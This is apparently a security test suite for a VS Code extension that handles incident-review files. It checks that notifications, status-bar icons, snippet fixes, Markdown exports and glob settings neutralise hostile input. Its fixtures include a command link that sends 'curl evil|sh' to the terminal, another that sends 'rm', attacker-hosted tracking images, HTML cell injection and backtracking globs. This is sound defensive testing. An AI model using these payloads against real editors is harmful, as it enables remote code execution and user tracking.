// What a repository's author can put in a review, a file name or .pir.yaml never becomes markup on
// the surfaces the product writes to: notification links, icons, snippet variables, Markdown
// images and table cells, prototype members (issue 20).
import assert from 'node:assert/strict';
import { createRequire } from 'node:module';
import { analyze, parseConfig, summarize, ReviewIndex, buildAudit, auditToMarkdown, statusBarText, snippetToText } from '../../src/core';
import { toExported, actionsToMarkdown } from '../../src/core/commands';
import { importPostmortem } from '../../src/core/import/convert';
import { noticeText, hasNotificationLink } from '../../src/core/safe/notification';
import { iconSafe, hasIconSyntax } from '../../src/core/safe/icons';
import { snippetEscape, snippetVariables } from '../../src/core/safe/snippet';
import { mdCell, mdCode, mdFence } from '../../src/core/safe/markdown';
import { own } from '../../src/core/safe/keys';
import { globProblem } from '../../src/core/safe/glob';

// VS Code's Markdown preview renders with markdown-it (HTML allowed, linkify on)
type Md = { render(s: string): string };
const MarkdownIt = createRequire(import.meta.url)('markdown-it') as new (o: object) => Md;
const preview = new MarkdownIt({ html: true, linkify: true });

const NESTED = '[[Open the diff](x)](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)';
const FILE_NAME = '[Open](command:workbench.action.terminal.sendSequence?%5B%22rm%22%5D).pir.md';
const IMAGE = '![t](https://attacker.example/t.png)';
const HTML_IMAGE = '<img src="https://attacker.example/t.png">';

describe('security: notification text', () => {
  it('neutralises links, nested ones too, and keeps the words', () => {
    // plainText() strips one level of a nested link: the rest is a link again
    for (const payload of [NESTED.replace('[[Open the diff](x)]', '[Open the diff]'), FILE_NAME, `Could not save ${FILE_NAME}: EACCES`, '[a](https://attacker.example)', '[x] (command:y)', '[x]\n(command:y)']) {
      assert.equal(hasNotificationLink(payload.replace(/\]\s+\(/, '](')), true, `the payload is a link: ${payload}`);
      const safe = noticeText(payload);
      assert.equal(hasNotificationLink(safe), false, safe);
      assert.equal(safe.replace(/\] \(/g, ']('), payload.replace(/\]\s*\(/g, '](').replace(/\n/g, ' '), 'only the link syntax changes');
    }
  });

  it('the import notes built from a nested-link heading are neutralised before they reach the confirmation', () => {
    const { notes } = importPostmortem(`# Outage\n\n## ${NESTED}\n\nSome text.\n\n## Timeline\n\n- 10:00 paged\n`, { fileName: 'a.md' });
    const message = `Write a.pir.md beside a.md? ${notes.slice(0, 4).join(' ')}`;
    assert.equal(hasNotificationLink(message), true, 'the note quotes the heading, a link after one level is stripped');
    assert.equal(hasNotificationLink(noticeText(message)), false);
    assert.match(noticeText(message), /Open the diff/);
  });
});

describe('security: icon surfaces (status bar, quick pick, "Copied" messages)', () => {
  it('escapes $( so a status of "$(sync~spin)" shows as text', () => {
    assert.equal(hasIconSyntax('$(sync~spin)'), true);
    assert.equal(iconSafe('$(sync~spin)'), '\\$(sync~spin)');
    assert.equal(hasIconSyntax(iconSafe('Copied $(sync~spin) $(eye)')), false);
    assert.equal(iconSafe('a\nb'), 'a b');
  });

  it('the status bar text keeps its own icons and shows the review\'s status and severity as text', () => {
    const { text } = statusBarText({ status: '$(sync~spin)', severity: '$(flame)', errors: 1, warnings: 0, infos: 0 });
    assert.match(text, /^\$\(checklist\) /, 'its own icon stays');
    assert.match(text, /\\\$\(sync~spin\) · \\\$\(flame\) · \$\(error\) 1 finding/);
  });

  it('a status named "constructor" or "toString" is shown as written, not as a function', () => {
    for (const status of ['constructor', 'toString', '__proto__', 'hasOwnProperty']) {
      const { text } = statusBarText({ status, errors: 0, warnings: 0, infos: 0 });
      assert.ok(text.includes(status) && !/function|native code|\[object/.test(text), text);
    }
  });
});

describe('security: snippet text', () => {
  it('escapes $, } and \\ and finds unescaped variables', () => {
    assert.equal(snippetEscape('$CLIPBOARD ${WORKSPACE_FOLDER} a}b\\'), '\\$CLIPBOARD \\${WORKSPACE_FOLDER\\} a\\}b\\\\');
    assert.deepEqual(snippetVariables('role: $CLIPBOARD ${1:name} ${WORKSPACE_FOLDER} $0'), ['CLIPBOARD', 'WORKSPACE_FOLDER']);
    assert.deepEqual(snippetVariables(snippetEscape('$CLIPBOARD ${TM_FILENAME}')), []);
    assert.equal(snippetToText(snippetEscape('$CLIPBOARD ${X} a}b\\')), '$CLIPBOARD ${X} a}b\\', 'the CLI writes the text as written');
  });

  it('requiredRoles: ["$CLIPBOARD", "${WORKSPACE_FOLDER}"] in .pir.yaml: the quick fix inserts the role names, never the clipboard or a path', () => {
    const { config } = parseConfig('requiredRoles: ["$CLIPBOARD", "${WORKSPACE_FOLDER}", "inc}ident\\\\"]\nroles: ["$CLIPBOARD", "${WORKSPACE_FOLDER}", "inc}ident\\\\"]\n');
    const text = '---\nid: INC-1\ntitle: t\nstatus: draft\nseverity: SEV2\nattendees:\n  - name: Ana\n    role: responder\n---\n# INC-1: t\n';
    const fixes = analyze(text, { config }).findings.filter(f => f.rule === 'required-roles').flatMap(f => f.fixes ?? []);
    assert.equal(fixes.length, 3);
    for (const fix of fixes) for (const e of fix.edits) {
      assert.deepEqual(snippetVariables(e.newText), [], e.newText);
    }
    const inserted = fixes.map(f => snippetToText(f.edits[0].newText));
    assert.ok(inserted[0].includes('role: $CLIPBOARD') && inserted[1].includes('role: ${WORKSPACE_FOLDER}') && inserted[2].includes('role: inc}ident\\'), inserted.join('\n'));
  });

  it('no rule\'s snippet fix carries a variable, whatever the document and .pir.yaml hold', () => {
    const v = '$CLIPBOARD${WORKSPACE_FOLDER}';
    const { config } = parseConfig(`requiredRoles: ["${v}"]\nroles: ["${v}"]\nactionFields: [owner, "${v}"]\nseverities: ["${v}"]\n`);
    const text = [
      '# Database $TM_FILENAME outage', '', '## Summary', '', `Bob caused it ${v}.`, '', '## Timeline', '', '- 09:00 $CLIPBOARD paged', '',
      '## Action items', '', `- [ ] X$CLIPBOARD-1: Improve monitoring ${v}`, `- [ ] X$CLIPBOARD-1: Look into it`, `* [ ] \${CLIPBOARD}-2: investigate`, '',
    ].join('\n');
    const findings = analyze(text, { config, uri: `/w/${v}-2026-01-02.pir.md`, now: new Date('2026-02-01T00:00:00Z') }).findings;
    const snippets = findings.flatMap(f => f.fixes ?? []).filter(f => f.snippet);
    assert.ok(snippets.length >= 3, `snippet fixes were offered: ${snippets.length}`);
    for (const fix of snippets) for (const e of fix.edits) assert.deepEqual(snippetVariables(e.newText), [], `${fix.title}: ${e.newText}`);
  });
});

function auditOf(title: string, severity: string, owner: string, file = 'reviews/a.pir.md') {
  const text = `---\nid: INC-1\ntitle: ${JSON.stringify(title)}\nstatus: final\nseverity: ${JSON.stringify(severity)}\nresolved: 2026-01-01T10:00:00Z\n---\n# INC-1: x\n\n## Action items\n\n- [ ] CAP-1: Add a lag alert on orders-consumer\n  - owner: ${owner}\n  - due: 2026-02-01\n`;
  const index = new ReviewIndex();
  index.update(file, text);
  const now = new Date('2026-03-01T00:00:00Z');
  return { audit: buildAudit(index.reviews(), index.actions(now), { now, showFile: u => u }), rows: toExported(index.actions(now)) };
}

describe('security: the Markdown export and the audit report', () => {
  it('cells escape |, <, >, & and image and link syntax; a code span survives any backticks', () => {
    assert.equal(mdCell('SEV1</td><td>'), 'SEV1\\</td\\>\\<td\\>');
    assert.equal(mdCell('a | b & c'), 'a \\| b \\& c');
    assert.equal(mdCell(IMAGE), '\\!\\[t\\](https://attacker.example/t.png)');
    assert.equal(mdCode('a`b``c'), '```a`b``c```');
    assert.deepEqual(mdFence(['```', 'x']), ['````', '```', 'x', '````']);
    for (const s of [IMAGE, HTML_IMAGE, 'SEV1</td><td>', '`x` <b>', '&lt;img src=x&gt;', '\\![t](u)']) {
      const html = preview.render(`| a | b |\n|---|---|\n| ${mdCell(s)} | ${mdCode(s)} |\n`);
      assert.doesNotMatch(html, /<img|<b>/, html);
      assert.equal((html.match(/<td>/g) ?? []).length, 2, html);
    }
  });

  it('a title with an image, an HTML image or a broken cell renders as text in the preview, in one row of 9 cells', () => {
    for (const title of [IMAGE, HTML_IMAGE, 'a | b', '`x` `` <img src=x>']) {
      const { audit } = auditOf(title, 'SEV1</td><td>', '@ana', 'reviews/`<img src=x>`.pir.md');
      const md = auditToMarkdown(audit);
      const html = preview.render(md);
      assert.doesNotMatch(html, /<img|<\/td><td>SEV/, html);
      const row = html.split('<tbody>')[2]?.split('</tr>')[0] ?? '';
      assert.equal((row.match(/<td>/g) ?? []).length, 9, row);
      assert.ok(html.includes(title.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/`/g, '`')) || !title.includes('`'), 'the title reads as written');
    }
  });

  it('an owner with backticks stays inside the chart\'s code block', () => {
    const { audit } = auditOf('t', 'SEV2', '@x```<img src=https://attacker.example/o.png>');
    const html = preview.render(auditToMarkdown(audit));
    assert.doesNotMatch(html, /<img/);
  });

  it('a severity named "constructor" gets the default deadline, not a function', () => {
    for (const severity of ['constructor', 'toString', '__proto__']) {
      const { audit } = auditOf('t', severity, '@ana');
      assert.equal(audit.reviews[0].deadlineDays, 7);
      assert.doesNotMatch(auditToMarkdown(audit), /function|native code/);
    }
    assert.equal(own({ a: 1 }, 'constructor'), undefined);
    assert.equal(own({ a: 1 }, 'a'), 1);
  });

  it('the corrective action export writes the cells as text', () => {
    const { rows } = auditOf('t', 'SEV2', '<img src=https://attacker.example/o.png>');
    rows[0].title = IMAGE;
    const html = preview.render(actionsToMarkdown(rows));
    assert.doesNotMatch(html, /<img/);
    assert.equal((html.split('<tbody>')[1].match(/<td>/g) ?? []).length, 9);
  });
});

describe('security: glob settings', () => {
  it('refuses patterns that make the matcher backtrack, and long ones; accepts the usual ones', () => {
    for (const ok of ['**/*.pir.md', '**/node_modules/**', 'docs/**/*-draft-*.pir.md', '{reviews,postmortems}/**/*.md', '**/.git', 'reviews/20??-*.pir.md'])
      assert.equal(globProblem(ok), undefined, ok);
    for (const bad of ['**/*?*?*?*?*?*?*?*?*?*?*?*?*?*?x', '**/*a*b*c', 'x'.repeat(300), '**/a/**/b/**/c/**/d', '+(a|aa)*', '?'.repeat(20)])
      assert.ok(globProblem(bad), bad);
  });

  it('an accepted pattern matches a long path in well under a millisecond', () => {
    const pm = createRequire(import.meta.url)('picomatch/posix') as (p: string, o: object) => (s: string) => boolean;
    const path = 'a/'.repeat(30) + 'b'.repeat(250) + '.pir.md';
    for (const p of ['**/*?*?x', '**/?*?*x', '*?*?/**/x?*?*']) {
      assert.equal(globProblem(p), undefined, p);
      const m = pm(p, { dot: true, noextglob: true });
      const t = performance.now(); m(path); const ms = performance.now() - t;
      assert.ok(ms < 50, `${p}: ${ms.toFixed(1)} ms`);
    }
  });
});

// keep summarize imported for the index's own tests above
void summarize;

describe('security: every notification goes through the sanitisers', () => {
  it('src/extension calls show*Message and setStatusBarMessage only through shared/notify', async () => {
    const fs = await import('node:fs');
    const path = await import('node:path');
    const root = path.join(import.meta.dirname, '..', '..', 'src', 'extension');
    const direct: string[] = [];
    const walk = (dir: string) => {
      for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
        const p = path.join(dir, e.name);
        if (e.isDirectory()) walk(p);
        else if (p.endsWith('.ts') && !p.endsWith(path.join('shared', 'notify.ts'))) {
          fs.readFileSync(p, 'utf8').split('\n').forEach((l, i) => {
            if (/window\.(show(Information|Warning|Error)Message|setStatusBarMessage)\b/.test(l)) direct.push(`${path.relative(root, p)}:${i + 1}`);
          });
        }
      }
    };
    walk(root);
    assert.deepEqual(direct, []);
  });
});
